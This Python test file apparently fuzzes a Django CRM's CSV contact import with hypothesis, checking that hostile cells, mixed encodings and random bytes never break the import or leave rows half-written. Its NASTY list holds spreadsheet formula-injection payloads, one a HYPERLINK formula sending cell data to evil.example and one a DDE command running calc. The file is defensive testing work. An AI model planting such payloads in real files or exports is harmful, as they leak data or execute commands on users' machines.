"""Hostile files (hypothesis): never an exception, every row imported or reported, nothing half-written."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kliyan.contacts.models import Company, Contact
from kliyan.core.errors import ValidationFailed
from kliyan.imports.models import Import, ImportedRecord, ImportProblem
from kliyan.imports.readers import read_rows
from kliyan.imports.rows import RowCleaner
from kliyan.imports.services import file_info, open_stored
from kliyan.imports.tests.conftest import run_file

pytestmark = pytest.mark.django_db

HEADER = ["Name", "Email", "Phone", "Notes", "City"]
NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1", "=1+1", '"', '""',
    "a,b;c\td|e", "line\nbreak", "cr\rreturn", "\x00", "Ștefan Pélissier", "Arbër", "ana@example.ro", "ANA@EXAMPLE.RO",
    "+509 3712 3456", "0999 123 456", "not-an-email@", "x" * 5000, "\ufeff", "ﬁ", "😀", " ", "",
]
cell = st.one_of(st.sampled_from(NASTY), st.text(max_size=40), st.just("y" * 200_000))
row = st.lists(cell, min_size=3, max_size=7)
encodings = st.sampled_from(["utf-8", "cp1252", "latin-1", "utf-8-sig"])
HYPOTHESIS = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def well_quoted(rows: list[list[str]], encoding: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADER)
    writer.writerows(rows)
    return out.getvalue().encode(encoding, "replace")


def raw_joined(rows: list[list[str]], encodings: list[str]) -> bytes:
    """Rows joined without any quoting, each in its own encoding: broken the way hand-made files are."""
    lines = [",".join(HEADER).encode()]
    for cells, encoding in zip(rows, encodings, strict=False):
        lines.append(",".join(cells).encode(encoding, "replace"))
    return b"\n".join(lines) + b"\n"


def assert_whole_rows_only(imported: Import) -> None:
    imported.refresh_from_db()
    assert imported.status in {"done", "checked"}, imported.error
    assert imported.rows_read == imported.created + imported.updated + imported.skipped + imported.failed
    assert imported.failed == ImportProblem.objects.filter(import_run=imported).values("row").distinct().count()
    created = ImportedRecord.objects.filter(import_run=imported, kind="contact", action="created")
    assert created.count() == imported.created == Contact.objects.count()
    # Every stored contact holds exactly what its row held: all of it, not a part.
    cleaner = RowCleaner(target=imported.target, mapping=imported.mapping, region="HT", headers=imported.headers)
    with open_stored(imported) as stream:
        expected = {r.number: cleaner.clean(r)[0] for r in read_rows(stream, file_info(imported))}
    for link in created:
        contact = Contact.objects.get(pk=link.object_id)
        record = expected[link.row]
        assert record is not None
        assert sorted(contact.emailaddresss.values_list("email", flat=True)) == sorted(record.emails)
        assert sorted(contact.phonenumbers.values_list("e164", flat=True)) == sorted(p.e164 for p in record.phones)
        assert contact.display_name == " ".join(p for p in (record.values.get("first_name", ""), record.values.get("last_name", "")) if p)


def fresh() -> None:
    Contact.objects.all().delete()
    Company.objects.all().delete()


@HYPOTHESIS
@given(rows=st.lists(row, max_size=12), encoding=encodings, batch=st.integers(1, 5))
def test_a_quoted_csv_with_hostile_cells_never_breaks_the_import(manager, rows, encoding, batch):
    fresh()

    imported = run_file(manager, well_quoted(rows, encoding), batch_size=batch)

    assert_whole_rows_only(imported)


@HYPOTHESIS
@given(rows=st.lists(row, max_size=12), row_encodings=st.lists(encodings, min_size=12, max_size=12), dry=st.booleans())
def test_an_unquoted_csv_in_mixed_encodings_never_breaks_the_import(manager, rows, row_encodings, dry):
    fresh()

    imported = run_file(manager, raw_joined(rows, row_encodings), dry_run=dry, batch_size=3)

    if dry:
        imported.refresh_from_db()
        assert imported.rows_read == imported.created + imported.updated + imported.skipped + imported.failed
        assert not Contact.objects.exists()
    else:
        assert_whole_rows_only(imported)


@HYPOTHESIS
@given(data=st.binary(max_size=2000))
def test_any_bytes_are_either_refused_at_upload_or_imported_row_by_row(manager, data):
    fresh()
    before = Import.objects.count()

    try:
        imported = run_file(manager, b"Name,Email\n" + data, name="random.csv")
    except ValidationFailed:
        assert Import.objects.count() == before and not Contact.objects.exists()
        return
    assert_whole_rows_only(imported)
